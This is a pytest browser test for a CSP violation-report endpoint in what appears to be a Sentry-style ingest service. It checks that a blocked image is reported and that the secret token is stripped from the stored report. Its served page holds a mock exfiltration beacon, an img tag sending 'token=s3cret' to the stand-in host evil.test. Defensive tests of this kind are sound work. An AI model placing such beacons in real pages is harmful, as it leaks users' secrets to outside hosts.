"""A real browser's CSP violation report reaches the security endpoint."""

import http.server
import threading
import time

import pytest

from sentry.models import Message
from tests.ingest_factories import make_key

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def wait_for(predicate, seconds=10):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.1)
    return predicate()


@pytest.fixture
def shop():
    """Serve pages on another origin than the ingest server: ``shop(policy)``."""
    served = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = b'<!doctype html><img src="http://evil.test/pixel.gif?token=s3cret">'
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Content-Security-Policy", served["policy"])
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()

    def serve(policy):
        served["policy"] = policy
        return f"http://127.0.0.1:{server.server_address[1]}/"

    yield serve
    server.shutdown()
    server.server_close()


def test_chromium_reports_a_blocked_image_through_report_uri(page, live_server, shop):
    key = make_key()
    endpoint = f"{live_server.url}/sentry/api/42/security/?sentry_key={key.public_key}"
    url = shop(f"img-src 'none'; report-uri {endpoint}")

    page.goto(url)

    assert wait_for(Message.objects.exists), "no report was stored"
    message = Message.objects.get()
    assert message.logger == "csp"
    assert message.message == "Blocked 'image' from 'evil.test'"
    assert message.view == "img-src"
    assert message.url == url
    csp = message.data["csp"]
    assert csp["blocked_uri"].startswith("http://evil.test/pixel.gif")
    assert "s3cret" not in csp["blocked_uri"]
    assert csp["effective_directive"] == "img-src"
    assert csp["disposition"] == "enforce"
